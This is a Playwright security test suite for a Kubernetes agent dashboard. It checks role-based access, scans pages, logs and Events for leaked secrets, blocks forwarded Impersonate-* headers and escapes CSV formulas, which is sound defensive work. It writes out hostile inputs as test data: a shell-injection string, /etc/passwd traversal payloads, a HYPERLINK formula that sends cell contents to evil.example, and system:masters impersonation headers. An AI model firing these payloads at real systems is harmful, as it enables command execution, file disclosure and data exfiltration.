// The security suite, over HTTP against the production build and the dev cluster:
// - the page, route and action × role matrix (printed);
// - a secret scan: every page and route as every role, the dashboard's own log and the
//   cluster's Events hold none of the seed's secret values;
// - injection and traversal inputs on every parameter of every route and action: clear
//   refusals, never a 500, and no config.toml changed;
// - Impersonate-* headers sent by a browser never reach the cluster.
import { expect, test, type APIRequestContext } from '@playwright/test';
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { signIn, signedInRequests } from './support/session';
import { E2E, e2eState, cluster } from './support/env';
import { seededAgents } from './support/seed-truth';
import { startImpersonatingServer } from './support/impersonating-server';
import {
  actionEntries,
  CLUSTER_ID,
  dashboardLogPath,
  fillTemplate,
  pageTemplates,
  readPodConfigs,
  ROLES,
  routeEntries,
  type Role,
} from './support/trust';

type Agent = { namespace: string; name: string };

/** The seed's secret values (tokens, keys, bot token, MCP secrets); the seed module is ESM-only, so ask tsx. */
function seedSecretMarkers(): string[] {
  const root = path.resolve(__dirname, '..');
  const out = execFileSync(
    path.join(root, 'node_modules/.bin/tsx'),
    [
      '-e',
      "import('./devcluster/seed/index.ts').then((m) => console.log(JSON.stringify((m.DEMO_SECRET_MARKERS ?? m.default.DEMO_SECRET_MARKERS))))",
    ],
    { cwd: root, encoding: 'utf8' },
  );
  return JSON.parse(out.trim().split('\n').at(-1)!);
}

async function codexAgents(): Promise<Agent[]> {
  return (await seededAgents()).filter((a) => a.codex && !a.crashLooping).map((a) => ({ namespace: a.namespace, name: a.name }));
}

const signedIn = signedInRequests();
const as = signedIn.as;
test.afterAll(() => signedIn.clear());

/** Pod names and image URLs the routes need, read as the admin through the dashboard. */
async function fixtures(admin: APIRequestContext, agent: Agent) {
  const fleet = await (await admin.get('/api/fleet')).json();
  const entry = fleet.agents.find((a: { workload: Agent }) => a.workload.namespace === agent.namespace && a.workload.name === agent.name);
  const pod: string = entry?.pod?.name ?? 'no-pod';
  const html = await (await admin.get(fillTemplate('/agents/[cluster]/[namespace]/[name]/images', agent))).text();
  const images = [...html.matchAll(/\/api\/images\/[^"'\s]+?\/thumbnail\?[^"'\s\\]+/g)].map((m) => m[0].replace(/&amp;/g, '&'));
  return { pod, images: [...new Set(images)].slice(0, 3) };
}

/** Query strings that make each route do its real work (not just refuse). */
function queryFor(route: string, pod: string): string {
  if (route.endsWith('/log/route')) return `?pod=${encodeURIComponent(pod)}&tail=20`;
  if (route.endsWith('/login/route')) return '';
  if (route.includes('/api/images/')) return '?path=nosuchsession%2Fnosuch.png';
  if (route.startsWith('/api/audit/')) return '?format=json';
  return '';
}

test.describe.configure({ mode: 'serial' });

test('the page, route and action × role matrix', async ({ browser, request }) => {
  const [agent] = await codexAgents();
  const pages = pageTemplates().filter((p) => p !== '/signin');
  const routes = routeEntries();
  const actions = actionEntries((t) => fillTemplate(t, agent));
  expect(routes.length).toBeGreaterThan(0);
  expect(actions.length).toBeGreaterThan(0);
  const rows: string[][] = [];
  const who: Array<Role | 'none'> = ['none', ...ROLES];
  for (const p of pages) {
    const row = [`page ${p}`];
    for (const role of who) {
      const ctx = role === 'none' ? request : await as(browser, role);
      const res = await ctx.get(fillTemplate(p, agent), { maxRedirects: 0 });
      const where = res.headers()['location'] ?? '';
      row.push(res.status() === 200 ? 'ok' : /signin/.test(where) ? 'sign-in' : /denied/.test(where) ? 'denied' : String(res.status()));
      if (role === 'none') expect(row.at(-1), `${p} without a session`).toBe('sign-in');
    }
    rows.push(row);
  }
  for (const r of routes) {
    const row = [`${r.method} ${r.template} (${r.role})`];
    for (const role of who) {
      const ctx = role === 'none' ? request : await as(browser, role);
      const res = await ctx.fetch(fillTemplate(r.template, agent) + queryFor(r.route, 'no-pod'), { method: r.method, maxRedirects: 0 });
      row.push(String(res.status()));
      if (role === 'none') expect(res.status()).toBe(401);
      else if (ROLES.indexOf(role) < ROLES.indexOf(r.role)) expect(res.status(), `${r.template} as ${role}`).toBe(403);
      else expect([401, 403]).not.toContain(res.status());
    }
    rows.push(row);
  }
  for (const a of actions) {
    const row = [`action ${a.name} (${a.role})`];
    for (const role of who) {
      const ctx = role === 'none' ? request : await as(browser, role);
      const body = await (
        await ctx.post(a.page, { headers: { 'Next-Action': a.id, 'Content-Type': 'text/plain;charset=UTF-8' }, data: '[{}]' })
      ).text();
      const verdict = /Sign in again/.test(body)
        ? 'no-session'
        : /This needs the \w+ role/.test(body)
          ? 'role'
          : /Too many actions/.test(body)
            ? 'throttled'
            : 'allowed';
      row.push(verdict);
      const allowed = role !== 'none' && ROLES.indexOf(role) >= ROLES.indexOf(a.role);
      if (verdict !== 'throttled') expect(verdict === 'allowed', `${a.name} as ${role}`).toBe(allowed);
    }
    rows.push(row);
  }
  const width = Math.max(...rows.map((r) => r[0].length));
  console.log(
    [
      `${'entry point'.padEnd(width)}  ${who.map((w) => w.padEnd(9)).join(' ')}`,
      ...rows.map(
        (r) =>
          `${r[0].padEnd(width)}  ${r
            .slice(1)
            .map((c) => c.padEnd(9))
            .join(' ')}`,
      ),
    ].join('\n') + `\n${pages.length} pages, ${routes.length} route handlers, ${actions.length} server actions × ${who.length} roles`,
  );
});

test('no secret value appears in any page, route, header, log line or cluster Event', async ({ browser, request }) => {
  test.setTimeout(300_000);
  const state = e2eState();
  const markers = [...new Set([...seedSecretMarkers(), state.cluster.discordBotToken, ...Object.values(state.cluster.tokens)])].filter(
    (m) => m && m.length >= 12,
  );
  expect(markers.length).toBeGreaterThan(5);
  const agents = await codexAgents();
  const admin = await as(browser, 'admin');
  const fx = new Map<string, Awaited<ReturnType<typeof fixtures>>>();
  for (const a of agents) fx.set(`${a.namespace}/${a.name}`, await fixtures(admin, a));
  const hits: string[] = [];
  let responses = 0;
  let bytes = 0;
  let images = 0;
  const scan = (where: string, text: string) => {
    bytes += text.length;
    for (const m of markers) if (text.includes(m)) hits.push(`${where}: ${m.slice(0, 6)}…`);
  };
  const visit = async (ctx: APIRequestContext, url: string, who: string) => {
    const res = await ctx.get(url, { maxRedirects: 0 });
    responses++;
    const head = Object.entries(res.headers())
      .map(([k, v]) => `${k}: ${v}`)
      .join('\n');
    scan(`${who} ${url} (headers)`, head);
    scan(`${who} ${url}`, (await res.body()).toString('latin1'));
  };
  const pages = pageTemplates();
  const routes = routeEntries();
  for (const role of ['none', ...ROLES] as const) {
    const ctx = role === 'none' ? request : await as(browser, role);
    for (const p of pages.filter((t) => !t.includes('['))) await visit(ctx, p, role);
    for (const a of agents) {
      const f = fx.get(`${a.namespace}/${a.name}`)!;
      for (const p of pages.filter((t) => t.includes('['))) await visit(ctx, fillTemplate(p, a), role);
      for (const r of routes.filter((x) => x.method === 'GET' && x.template.includes('[')))
        await visit(ctx, fillTemplate(r.template, a) + queryFor(r.route, f.pod), role);
      for (const img of f.images) {
        images++;
        await visit(ctx, img, role);
        await visit(ctx, img.replace('/thumbnail?', '/file?'), role);
      }
    }
    for (const r of routes.filter((x) => x.method === 'GET' && !x.template.includes('['))) {
      await visit(ctx, r.template + queryFor(r.route, ''), role);
      if (r.template.startsWith('/api/audit/')) await visit(ctx, `${r.template}?format=csv`, role);
    }
  }
  const logFile = dashboardLogPath();
  expect(existsSync(logFile), 'the stack copies the dashboard output to a file').toBe(true);
  const log = readFileSync(logFile, 'utf8');
  scan('dashboard log', log);
  const control = cluster();
  const events = await control.call<{ items: unknown[] }>('GET', '/api/v1/events');
  await control.close();
  scan('cluster events', JSON.stringify(events));
  console.log(
    `secret scan: ${markers.length} markers, ${responses} responses (${images} images, ${(bytes / 1e6).toFixed(1)} MB with the log and ${events.items.length} events): ${hits.length} hits`,
  );
  expect(hits).toEqual([]);
  // The scan looked at real content: the log has audit lines or requests, the pages had agents.
  expect(responses).toBeGreaterThan(agents.length * 5);
});

const NASTY: Array<[string, string]> = [
  ['shell', 'x;id$(touch /tmp/openab-pwned)`touch /tmp/openab-pwned`|id&&id'],
  ['traversal', '../../../../etc/passwd'],
  ['encoded', '%2e%2e%2f%2e%2e%2fetc%2fpasswd\u0000.png'],
  ['long', 'a'.repeat(10_000)],
  ['look-alike', '\u0430gents\u202e\uff0f..\uff0f\u2215etc'],
];

test('injection and traversal inputs on every route parameter: refusals, never a 500', async ({ browser }) => {
  test.setTimeout(300_000);
  const admin = await as(browser, 'admin');
  const [agent] = await codexAgents();
  const { pod } = await fixtures(admin, agent);
  const results: string[] = [];
  const wrong: string[] = [];
  for (const r of routeEntries().filter((x) => x.method === 'GET')) {
    const segments = [...r.template.matchAll(/\[(\w+)\]/g)].map((m) => m[1]);
    const baseQuery = new URLSearchParams(queryFor(r.route, pod));
    const queryKeys = [
      ...new Set([
        ...baseQuery.keys(),
        'pod',
        'tail',
        'path',
        'v',
        'download',
        'format',
        'agent',
        'user',
        'action',
        'result',
        'follow',
        'previous',
        'rollout',
      ]),
    ];
    for (const [label, value] of NASTY) {
      for (const seg of segments) {
        const url =
          fillTemplate(
            r.template,
            { namespace: seg === 'namespace' ? value : agent.namespace, name: seg === 'name' ? value : agent.name },
            seg === 'cluster' ? value : CLUSTER_ID,
          ) + `?${baseQuery}`;
        const res = await admin.get(url, { maxRedirects: 0 });
        results.push(`${r.template} [${seg}] ${label}: ${res.status()}`);
        if (res.status() < 400 || res.status() >= 500)
          wrong.push(`${r.template} with ${label} in [${seg}]: ${res.status()} ${(await res.text()).slice(0, 200)}`);
      }
      for (const key of queryKeys) {
        const q = new URLSearchParams(baseQuery);
        q.set(key, value);
        const res = await admin.get(fillTemplate(r.template, agent) + `?${q}`, { maxRedirects: 0 });
        results.push(`${r.template} ?${key} ${label}: ${res.status()}`);
        if (res.status() >= 500) wrong.push(`${r.template} with ${label} in ?${key}: ${res.status()} ${(await res.text()).slice(0, 200)}`);
        else await res.dispose();
      }
    }
  }
  expect(wrong).toEqual([]);
  console.log(`route injection: ${results.length} requests, none answered 5xx`);
});

test('injection and traversal inputs on every server action field: {ok:false}, nothing changed in the pods', async ({ browser }) => {
  test.setTimeout(420_000);
  const agents = await codexAgents();
  const agent = agents[0];
  const before = await readPodConfigs();
  expect(before.size).toBeGreaterThan(3);
  const baseline: Record<string, unknown> = {
    clusterId: CLUSTER_ID,
    cluster: CLUSTER_ID,
    namespace: agent.namespace,
    name: agent.name,
    mode: 'manual',
    baseHash: '0'.repeat(64),
    feature: 'no_such_feature',
    enabled: true,
    loginId: '0123456789abcdef',
    image: 'nosuchsession/nosuch.png',
    target: '123456789012345678',
    message: 'hello',
  };
  const actions = actionEntries((t) => fillTemplate(t, agent));
  const roleUsers = (min: Role) => ROLES.filter((r) => ROLES.indexOf(r) >= ROLES.indexOf(min) && r !== 'viewer');
  let sent = 0;
  const post = async (a: (typeof actions)[number], input: unknown, turn: number): Promise<string> => {
    const users = roleUsers(a.role);
    for (let attempt = 0; ; attempt++) {
      const ctx = await as(browser, users[(turn + attempt) % users.length]);
      const res = await ctx.post(a.page, {
        headers: { 'Next-Action': a.id, 'Content-Type': 'text/plain;charset=UTF-8' },
        data: JSON.stringify([input]),
      });
      sent++;
      const body = await res.text();
      expect(res.status(), `${a.name}`).toBeLessThan(500);
      const wait = /Too many actions in a short time\. Wait (\d+) s/.exec(body);
      if (!wait) return body;
      // The per-user action limit is working; wait it out rather than weaken it.
      if (attempt % users.length === users.length - 1) await new Promise((r) => setTimeout(r, Math.min(Number(wait[1]), 10) * 1000));
    }
  };
  const lines: string[] = [];
  for (const a of actions) {
    // The action's own required fields, from its validation answer to an empty input.
    const probe = await post(a, {}, 0);
    const fields = Object.keys(JSON.parse(/\{"ok":false.*\}/.exec(probe)?.[0] ?? '{}').fieldErrors ?? {}).filter((f) => f !== '_');
    expect(fields.length, `${a.name} names its fields`).toBeGreaterThan(0);
    const nested = fields.includes('agents');
    const own = (over: Record<string, unknown>) => {
      if (nested) return { agents: [{ clusterId: CLUSTER_ID, namespace: agent.namespace, name: agent.name, ...over }] };
      return Object.fromEntries([...fields, ...Object.keys(over)].map((f) => [f, f in over ? over[f] : baseline[f]]));
    };
    const injectable = nested ? ['clusterId', 'namespace', 'name'] : fields.filter((f) => typeof baseline[f] === 'string');
    let turn = 0;
    for (const field of injectable) {
      for (const [label, value] of NASTY) {
        const body = await post(a, own({ [field]: value }), turn++);
        expect(body, `${a.name} with ${label} in ${field}`).toContain('"ok":false');
        expect(body, `${a.name} with ${label} in ${field}`).not.toContain('Something went wrong on the server');
        lines.push(`${a.name}.${field} ${label}: refused`);
      }
    }
  }
  const after = await readPodConfigs();
  for (const [key, b] of before) {
    const now = after.get(key);
    if (!now || now.pod !== b.pod) continue;
    expect(now.sha256, `${key} config.toml unchanged`).toBe(b.sha256);
  }
  expect(existsSync('/tmp/openab-pwned'), 'no command ran on the dashboard host').toBe(false);
  console.log(
    `action injection: ${lines.length} inputs over ${actions.length} actions (${sent} requests): all refused; ${before.size} config.toml files unchanged`,
  );
});

test('Impersonate-* headers from a browser never reach the cluster', async ({ browser }) => {
  test.setTimeout(180_000);
  // The dev cluster lets the dashboard impersonate anyone; were these headers passed on, every
  // call would run as a user with no rights and fail.
  const sneaky = { 'Impersonate-User': 'intruder', 'Impersonate-Group': 'system:masters', 'Impersonate-Uid': '0' };
  const agents = await codexAgents();
  const admin = await as(browser, 'admin');
  const { pod } = await fixtures(admin, agents[0]);
  const urls = [
    ...pageTemplates().map((p) => fillTemplate(p, agents[0])),
    ...routeEntries()
      .filter((r) => r.method === 'GET' && !r.route.endsWith('/login/route'))
      .map((r) => fillTemplate(r.template, agents[0]) + queryFor(r.route, pod)),
  ];
  let checked = 0;
  for (const url of urls) {
    const plain = await admin.get(url, { maxRedirects: 0 });
    const withHeaders = await admin.get(url, { maxRedirects: 0, headers: sneaky });
    expect(withHeaders.status(), url).toBe(plain.status());
    expect(await withHeaders.text(), url).not.toMatch(/intruder|cannot (list|get|patch) resource/);
    checked++;
  }
  const fleet = await (await admin.get('/api/fleet', { headers: sneaky })).json();
  expect(fleet.error).toBeNull();
  expect(fleet.clusters.every((c: { error: string | null }) => c.error === null)).toBe(true);
  expect(fleet.agents.length).toBeGreaterThan(3);
  console.log(`impersonation headers: ${checked} pages and routes answered as without them`);
});

test('the audit trail: operators read and filter it, admins export it as formula-safe CSV and JSON', async ({ browser, page }) => {
  const [agent] = await codexAgents();
  const control = cluster();
  const user = `=HYPERLINK("http://evil.example/?"&A1,"click") ${Date.now()}`;
  // An entry as logActivity writes it, with a name a spreadsheet would run as a formula.
  await control.call('POST', `/api/v1/namespaces/${agent.namespace}/events`, {
    metadata: {
      generateName: `${agent.name}.`,
      namespace: agent.namespace,
      annotations: {
        'openab.dev/audit': JSON.stringify({ user: { name: user, email: null, role: 'operator' }, action: 'restart', result: 'failure' }),
      },
    },
    involvedObject: { apiVersion: 'apps/v1', kind: 'Deployment', name: agent.name, namespace: agent.namespace },
    reason: 'OpenABDashboardAction',
    message: `${user} (operator): restart failure`,
    type: 'Warning',
    source: { component: 'openab-dashboard' },
    lastTimestamp: new Date().toISOString(),
    count: 1,
  });
  await control.close();

  await signIn(page, 'operator');
  await expect(page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Audit' })).toBeVisible();
  await page.goto('/audit');
  await expect(page.getByTestId('audit-expiry-note')).toContainText('one hour');
  await expect(page.getByTestId('export-disabled')).toContainText('Admin role');
  await page.getByLabel('Agent').selectOption(`${CLUSTER_ID}/${agent.namespace}/${agent.name}`);
  await page.getByLabel('Action').selectOption('restart');
  await page.getByLabel('Result').selectOption('failure');
  await page.getByLabel('User').fill('evil.example');
  await page.getByRole('button', { name: 'Filter' }).click();
  await expect(page).toHaveURL(/result=failure/);
  await expect(page.getByTestId('audit-row')).toHaveCount(1);
  await expect(page.getByTestId('audit-row')).toContainText(user);
  expect((await page.request.get('/api/audit/export?format=csv')).status()).toBe(403);

  const admin = await browser.newPage();
  await signIn(admin, 'admin');
  await admin.goto(`/audit?user=${encodeURIComponent('evil.example')}`);
  const [download] = await Promise.all([admin.waitForEvent('download'), admin.getByTestId('export-csv').click()]);
  expect(download.suggestedFilename()).toMatch(/^openab-audit-[\dTZ-]+\.csv$/);
  const csv = readFileSync((await download.path())!, 'utf8');
  const lines = csv.trimEnd().split('\r\n');
  expect(lines[0]).toBe('time,cluster,namespace,agent,user,role,action,result,before,after,message,verified,unverified');
  expect(lines).toHaveLength(2);
  expect(lines[1]).toContain(`"'=HYPERLINK(`);
  expect(lines[1]).not.toMatch(/(^|,)"?=/);
  const json = await admin.request.get(`/api/audit/export?format=json&user=${encodeURIComponent('evil.example')}`);
  expect(json.headers()['content-disposition']).toMatch(/^attachment; filename="openab-audit-[\dTZ-]+\.json"$/);
  expect(json.headers()['content-type']).toContain('application/json');
  const body = await json.json();
  expect(body.entries).toHaveLength(1);
  expect(body.entries[0]).toMatchObject({ user, action: 'restart', result: 'failure', agent: agent.name });
  // Written into the cluster by the test, not by the dashboard: unsigned, so marked unverified.
  expect(body.entries[0].verified).toBe(false);
  expect((await admin.request.get('/api/audit/export?format=xml')).status()).toBe(400);
  await admin.close();

  const viewer = await browser.newPage();
  await signIn(viewer, 'viewer');
  await expect(viewer.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Audit' })).toHaveCount(0);
  await viewer.goto('/audit');
  await expect(viewer).toHaveURL(/\/\?refused=audit$/);
  await viewer.close();
});

test("impersonation mode: the person's Kubernetes RBAC decides what is offered and what is done", async ({ browser }) => {
  test.setTimeout(180_000);
  const [agent] = await codexAgents();
  const control = cluster();
  const original = await control.call<object>('GET', '/_devcluster/rbac');
  // dashboard:viewer may only read; the group dashboard:operator may also exec, but not patch.
  const read = {
    verbs: ['get', 'list', 'watch'],
    apiGroups: ['', 'apps'],
    resources: ['pods', 'pods/log', 'events', 'deployments', 'replicasets', 'namespaces', 'configmaps'],
  };
  await control.call('POST', '/_devcluster/rbac', {
    bindings: [
      { subjects: [{ kind: 'User', name: 'dashboard:viewer' }], rules: [read] },
      {
        subjects: [{ kind: 'Group', name: 'dashboard:operator' }],
        rules: [read, { verbs: ['get', 'create'], apiGroups: [''], resources: ['pods/exec'] }],
      },
    ],
  });
  // A second server of the same build on the same cluster, in impersonation mode.
  const server = await startImpersonatingServer(E2E.port + 2);
  const url = server.url;
  try {
    const agentPage = fillTemplate('/agents/[cluster]/[namespace]/[name]', agent);
    const operatorContext = await browser.newContext({ baseURL: url });
    const page = await operatorContext.newPage();
    await signIn(page, 'operator');
    await page.goto(agentPage);
    const actions = page.getByRole('region', { name: 'Actions' });
    await expect(actions.getByRole('button', { name: 'Restart agent' })).toBeDisabled();
    await expect(actions.getByTestId('restart-disabled-reason')).toHaveText(
      `The cluster does not allow your Kubernetes identity (dashboard:operator) to patch deployments in ${agent.namespace}.`,
    );
    // Exec is allowed through the operator group: the settings are offered.
    await expect(actions.getByTestId('approval-disabled-reason')).toHaveCount(0);
    const restart = actionEntries((t) => fillTemplate(t, agent)).find((a) => a.name === 'restartAgentAction')!;
    const call = (headers: Record<string, string> = {}) =>
      page.request
        .post(agentPage, {
          headers: { 'Next-Action': restart.id, 'Content-Type': 'text/plain;charset=UTF-8', ...headers },
          data: JSON.stringify([{ clusterId: CLUSTER_ID, namespace: agent.namespace, name: agent.name }]),
        })
        .then((r) => r.text());
    const refused = await call();
    expect(refused).toMatch(/"ok":false/);
    expect(refused).toMatch(/refused .*\(403\).*User \\?"dashboard:operator\\?" cannot patch resource \\?"deployments\\?"/);
    // Headers a browser sends are not passed on: asking to be the cluster admin changes nothing.
    const sneaky = await call({ 'Impersonate-User': 'admin', 'Impersonate-Group': 'system:masters' });
    expect(sneaky).toMatch(/User \\?"dashboard:operator\\?" cannot patch/);
    await operatorContext.close();

    const viewerContext = await browser.newContext({ baseURL: url });
    const viewer = await viewerContext.newPage();
    await signIn(viewer, 'viewer');
    await viewer.goto('/');
    // dashboard:viewer may list the fleet but not exec: each agent says why it was not probed.
    await expect(viewer.getByTestId('agent-card').first()).toBeVisible();
    await expect(viewer.getByTestId('agent-problem').first()).toContainText('dashboard:viewer');
    await viewerContext.close();
  } finally {
    server.stop();
    await control.call('PUT', '/_devcluster/rbac', original);
    await control.close();
  }
});
